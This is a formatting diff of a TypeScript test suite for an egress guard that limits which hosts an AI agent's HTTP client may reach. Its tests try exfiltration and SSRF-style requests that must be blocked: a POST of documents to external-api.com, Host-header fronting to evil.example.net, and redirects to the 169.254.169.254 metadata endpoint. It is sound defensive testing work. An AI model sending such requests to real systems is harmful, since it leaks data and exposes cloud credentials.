@@ -73,7 +73,16 @@ function declared(...extra: string[]): string[] {
 }
 
 function agentFor(options: Partial<Parameters<typeof createEgressAgent>[0]> = {}): Dispatcher {
-  return createEgressAgent({ agentId: 'agent-summarizer-v2', trustLevel: 'L2', egress: declared(), resolver, mode: 'enforce', maxRedirections: 3, connect: { ca: cert.cert, timeout: 2_000 }, ...options })
+  return createEgressAgent({
+    agentId: 'agent-summarizer-v2',
+    trustLevel: 'L2',
+    egress: declared(),
+    resolver,
+    mode: 'enforce',
+    maxRedirections: 3,
+    connect: { ca: cert.cert, timeout: 2_000 },
+    ...options,
+  })
 }
 
 async function denial(p: Promise<unknown>): Promise<{ code?: string; details?: Record<string, unknown>; message?: string }> {
@@ -122,7 +131,9 @@ describe('allowed destinations', () => {
   it('follows a same-host redirect, checking each hop', async () => {
     const audit = new MemoryAuditLog()
     const d = agentFor({ audit })
-    const r = await request(`http://api.example.com:${toSameHost.port}/start`, { dispatcher: d, maxRedirections: 3 } as Parameters<typeof request>[1])
+    const r = await request(`http://api.example.com:${toSameHost.port}/start`, { dispatcher: d, maxRedirections: 3 } as Parameters<
+      typeof request
+    >[1])
     expect(await r.body.json()).toEqual({ final: true })
     expect(audit.events.filter((e) => e.note?.startsWith('request')).length).toBe(2)
     await d.close()
@@ -133,7 +144,10 @@ describe('denied before any byte leaves', () => {
   it('an undeclared host (the seed attack: external-api.com)', async () => {
     const d = agentFor()
     const e = await denial(request('https://external-api.com/upload', { dispatcher: d, method: 'POST', body: 'all the documents' }))
-    expect(e).toMatchObject({ code: 'ERR_EGRESS_DENIED', details: { host: 'external-api.com', rule: 'not-declared', agentId: 'agent-summarizer-v2' } })
+    expect(e).toMatchObject({
+      code: 'ERR_EGRESS_DENIED',
+      details: { host: 'external-api.com', rule: 'not-declared', agentId: 'agent-summarizer-v2' },
+    })
     await d.close()
   })
 
@@ -162,12 +176,20 @@ describe('denied before any byte leaves', () => {
 
   it('a Host header naming another site (domain fronting) and an absolute-form path', async () => {
     const d = agentFor()
-    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: { host: 'evil.example.net' } }))).toMatchObject({ details: { rule: 'host-header' } })
-    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: [['Host', 'api.example.com:1']] }))).toMatchObject({ details: { rule: 'host-header' } })
+    expect(
+      await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: { host: 'evil.example.net' } })),
+    ).toMatchObject({ details: { rule: 'host-header' } })
+    expect(
+      await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: [['Host', 'api.example.com:1']] })),
+    ).toMatchObject({ details: { rule: 'host-header' } })
     const r = await request(`http://api.example.com:${ok.port}/`, { dispatcher: d, headers: { Host: `API.example.com:${ok.port}` } })
     expect(r.statusCode).toBe(200)
     await r.body.dump()
-    expect(await denial(d.request({ origin: `http://api.example.com:${ok.port}`, path: `http://evil.example.net:${evil.port}/`, method: 'GET' }))).toMatchObject({ details: { rule: 'path' } })
+    expect(
+      await denial(
+        d.request({ origin: `http://api.example.com:${ok.port}`, path: `http://evil.example.net:${evil.port}/`, method: 'GET' }),
+      ),
+    ).toMatchObject({ details: { rule: 'path' } })
     expect(evil.seen).toHaveLength(0)
     await d.close()
   })
@@ -191,7 +213,9 @@ describe('denied before any byte leaves', () => {
     const plain = new Agent()
     const dispatch = createEgressGuard({ agentId: 'a', trustLevel: 'L2', egress: [], mode: 'enforce' })(plain.dispatch.bind(plain))
     const errors: Error[] = []
-    const returned = dispatch({ origin: 'https://external-api.com', path: '/', method: 'GET' }, { onError: (e: Error) => errors.push(e) } as Dispatcher.DispatchHandler)
+    const returned = dispatch({ origin: 'https://external-api.com', path: '/', method: 'GET' }, {
+      onError: (e: Error) => errors.push(e),
+    } as Dispatcher.DispatchHandler)
     expect(returned).toBe(false)
     expect(errors).toMatchObject([{ code: 'ERR_EGRESS_DENIED', details: { rule: 'empty-allowlist' } }])
     await plain.close()
@@ -219,7 +243,9 @@ describe('connect time: every resolved address, the socket uses exactly those', 
 
   it('a name that resolves to nothing is denied', async () => {
     const d = agentFor({ egress: [`http://empty.example.com:${ok.port}`] })
-    expect(await denial(request(`http://empty.example.com:${ok.port}/`, { dispatcher: d }))).toMatchObject({ details: { rule: 'resolve-failed' } })
+    expect(await denial(request(`http://empty.example.com:${ok.port}/`, { dispatcher: d }))).toMatchObject({
+      details: { rule: 'resolve-failed' },
+    })
     await d.close()
   })
 
@@ -240,38 +266,58 @@ describe('connect time: every resolved address, the socket uses exactly those', 
 describe('redirects: every hop', () => {
   const via = ['request', 'fetch'] as const
   const go = (kind: (typeof via)[number], url: string, d: Dispatcher) =>
-    kind === 'request' ? request(url, { dispatcher: d, maxRedirections: 3 } as Parameters<typeof request>[1]) : fetch(url, { dispatcher: d })
+    kind === 'request'
+      ? request(url, { dispatcher: d, maxRedirections: 3 } as Parameters<typeof request>[1])
+      : fetch(url, { dispatcher: d })
 
   it.each(via)('to an undeclared host (%s)', async (kind) => {
     const d = agentFor()
-    expect(await denial(go(kind, `http://api.example.com:${toEvil.port}/`, d))).toMatchObject({ code: 'ERR_EGRESS_DENIED', details: { host: 'evil.example.net', rule: 'not-declared' } })
-    expect(await denial(go(kind, `http://api.example.com:${toEvilLiteral.port}/`, d))).toMatchObject({ details: { host: '127.0.0.1', rule: 'ip-literal' } })
+    expect(await denial(go(kind, `http://api.example.com:${toEvil.port}/`, d))).toMatchObject({
+      code: 'ERR_EGRESS_DENIED',
+      details: { host: 'evil.example.net', rule: 'not-declared' },
+    })
+    expect(await denial(go(kind, `http://api.example.com:${toEvilLiteral.port}/`, d))).toMatchObject({
+      details: { host: '127.0.0.1', rule: 'ip-literal' },
+    })
     expect(evil.seen).toHaveLength(0)
     await d.close()
   })
 
   it.each(via)('to the metadata endpoint, as a literal and as a name (%s)', async (kind) => {
     const d = agentFor({ egress: [...declared(), `http://metadata.example.com:${ok.port} internal`] })
-    expect(await denial(go(kind, `http://api.example.com:${toMetadata.port}/`, d))).toMatchObject({ details: { host: '169.254.169.254', rule: 'ip-literal' } })
-    expect(await denial(go(kind, `http://api.example.com:${toMetadataName.port}/`, d))).toMatchObject({ details: { rule: 'address', addressClass: 'metadata' } })
+    expect(await denial(go(kind, `http://api.example.com:${toMetadata.port}/`, d))).toMatchObject({
+      details: { host: '169.254.169.254', rule: 'ip-literal' },
+    })
+    expect(await denial(go(kind, `http://api.example.com:${toMetadataName.port}/`, d))).toMatchObject({
+      details: { rule: 'address', addressClass: 'metadata' },
+    })
     await d.close()
   })
 
   it.each(via)('from https to http (%s)', async (kind) => {
     const d = agentFor()
-    expect(await denial(go(kind, `https://api.example.com:${secureToPlain.port}/`, d))).toMatchObject({ details: { host: 'api.example.com', rule: 'not-declared' } })
+    expect(await denial(go(kind, `https://api.example.com:${secureToPlain.port}/`, d))).toMatchObject({
+      details: { host: 'api.example.com', rule: 'not-declared' },
+    })
     expect(secure.seen.some((s) => s.url === '/downgraded')).toBe(false)
     await d.close()
   })
 })
 
 describe('interceptor order (compose: the last one listed is the outermost)', () => {
-  const opts = () => ({ agentId: 'a', trustLevel: 'L2' as const, egress: [`http://127.0.0.1:${toEvilLiteral.port}`], mode: 'enforce' as const })
+  const opts = () => ({
+    agentId: 'a',
+    trustLevel: 'L2' as const,
+    egress: [`http://127.0.0.1:${toEvilLiteral.port}`],
+    mode: 'enforce' as const,
+  })
 
   it('guard listed before redirect sees every hop', async () => {
     const d = new Agent().compose(createEgressGuard(opts()), interceptors.redirect({ maxRedirections: 3 }))
     const before = evil.seen.length
-    expect(await denial(request(`http://127.0.0.1:${toEvilLiteral.port}/`, { dispatcher: d }))).toMatchObject({ details: { rule: 'ip-literal' } })
+    expect(await denial(request(`http://127.0.0.1:${toEvilLiteral.port}/`, { dispatcher: d }))).toMatchObject({
+      details: { rule: 'ip-literal' },
+    })
     expect(evil.seen.length).toBe(before)
     await d.close()
   })
@@ -287,15 +333,22 @@ describe('interceptor order (compose: the last one listed is the outermost)', ()
   })
 
   it('the egress connector still stops the escaped hop at connect time', async () => {
-    const d = new Agent({ connect: createEgressConnector(opts()) }).compose(interceptors.redirect({ maxRedirections: 3 }), createEgressGuard(opts()))
-    expect(await denial(request(`http://127.0.0.1:${toEvilLiteral.port}/`, { dispatcher: d }))).toMatchObject({ details: { rule: 'ip-literal' } })
+    const d = new Agent({ connect: createEgressConnector(opts()) }).compose(
+      interceptors.redirect({ maxRedirections: 3 }),
+      createEgressGuard(opts()),
+    )
+    expect(await denial(request(`http://127.0.0.1:${toEvilLiteral.port}/`, { dispatcher: d }))).toMatchObject({
+      details: { rule: 'ip-literal' },
+    })
     expect(evil.seen).toHaveLength(0)
     await d.close()
   })
 
   it('createEgressAgent composes it right, and composing more on top keeps the guard inside', async () => {
     const d = agentFor().compose(interceptors.redirect({ maxRedirections: 3 }))
-    expect(await denial(request(`http://api.example.com:${toEvil.port}/`, { dispatcher: d }))).toMatchObject({ details: { rule: 'not-declared' } })
+    expect(await denial(request(`http://api.example.com:${toEvil.port}/`, { dispatcher: d }))).toMatchObject({
+      details: { rule: 'not-declared' },
+    })
     await d.close()
   })
 
@@ -315,17 +368,23 @@ describe('trust levels', () => {
     await h.body.dump()
     expect([r.statusCode, h.statusCode]).toEqual([200, 200])
     for (const method of ['POST', 'PUT', 'DELETE', 'PATCH'] as const) {
-      expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, method, body: 'x' }))).toMatchObject({ details: { rule: 'method' } })
+      expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: d, method, body: 'x' }))).toMatchObject({
+        details: { rule: 'method' },
+      })
     }
     await d.close()
   })
 
   it('L0 and an empty allowlist reach nothing', async () => {
     const l0 = agentFor({ trustLevel: 'L0' })
-    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: l0 }))).toMatchObject({ details: { rule: 'trust-level' } })
+    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: l0 }))).toMatchObject({
+      details: { rule: 'trust-level' },
+    })
     await l0.close()
     const empty = agentFor({ egress: [] })
-    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: empty }))).toMatchObject({ details: { rule: 'empty-allowlist' } })
+    expect(await denial(request(`http://api.example.com:${ok.port}/`, { dispatcher: empty }))).toMatchObject({
+      details: { rule: 'empty-allowlist' },
+    })
     await empty.close()
   })
 })
@@ -334,7 +393,10 @@ describe('audit, modes, options', () => {
   it('records every decision without paths, queries, headers or bodies', async () => {
     const audit = new MemoryAuditLog()
     const d = agentFor({ audit })
-    const r = await request(`http://api.example.com:${ok.port}/private/path?token=SECRET-QUERY`, { dispatcher: d, headers: { 'x-api-key': 'SECRET-HEADER' } })
+    const r = await request(`http://api.example.com:${ok.port}/private/path?token=SECRET-QUERY`, {
+      dispatcher: d,
+      headers: { 'x-api-key': 'SECRET-HEADER' },
+    })
     await r.body.dump()
     await denial(request('https://external-api.com/upload?token=SECRET-QUERY', { dispatcher: d, method: 'POST', body: 'SECRET-BODY' }))
     await d.close()
@@ -377,9 +439,13 @@ describe('audit, modes, options', () => {
   it('refuses options that would bypass the checks', () => {
     const base = { agentId: 'a', trustLevel: 'L2' as const, egress: [], mode: 'enforce' as const }
     for (const connect of [{ lookup: () => undefined }, { socketPath: '/tmp/x.sock' }]) {
-      expect(() => createEgressAgent({ ...base, connect: connect as never })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
+      expect(() => createEgressAgent({ ...base, connect: connect as never })).toThrow(
+        expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }),
+      )
     }
-    expect(() => createEgressAgent({ ...base, agentOptions: { connect: {} } as never })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
+    expect(() => createEgressAgent({ ...base, agentOptions: { connect: {} } as never })).toThrow(
+      expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }),
+    )
     expect(() => createEgressAgent({ ...base, agentId: '' })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
     expect(() => createEgressAgent({ ...base, mode: 'loose' as never })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
     expect(() => createEgressAgent({ ...base, egress: ['https://*'] })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
@@ -388,7 +454,13 @@ describe('audit, modes, options', () => {
 
 describe('installGlobalEgress (opt-in, for global fetch)', () => {
   it("guards Node's built-in fetch and puts the previous dispatcher back", async () => {
-    const installed = installGlobalEgress({ agentId: 'a', trustLevel: 'L2', egress: [`http://api.example.com:${ok.port} internal`], resolver, mode: 'enforce' })
+    const installed = installGlobalEgress({
+      agentId: 'a',
+      trustLevel: 'L2',
+      egress: [`http://api.example.com:${ok.port} internal`],
+      resolver,
+      mode: 'enforce',
+    })
     try {
       const r = await globalThis.fetch(`http://api.example.com:${ok.port}/global`)
       expect(await r.json()).toEqual({ ok: true })
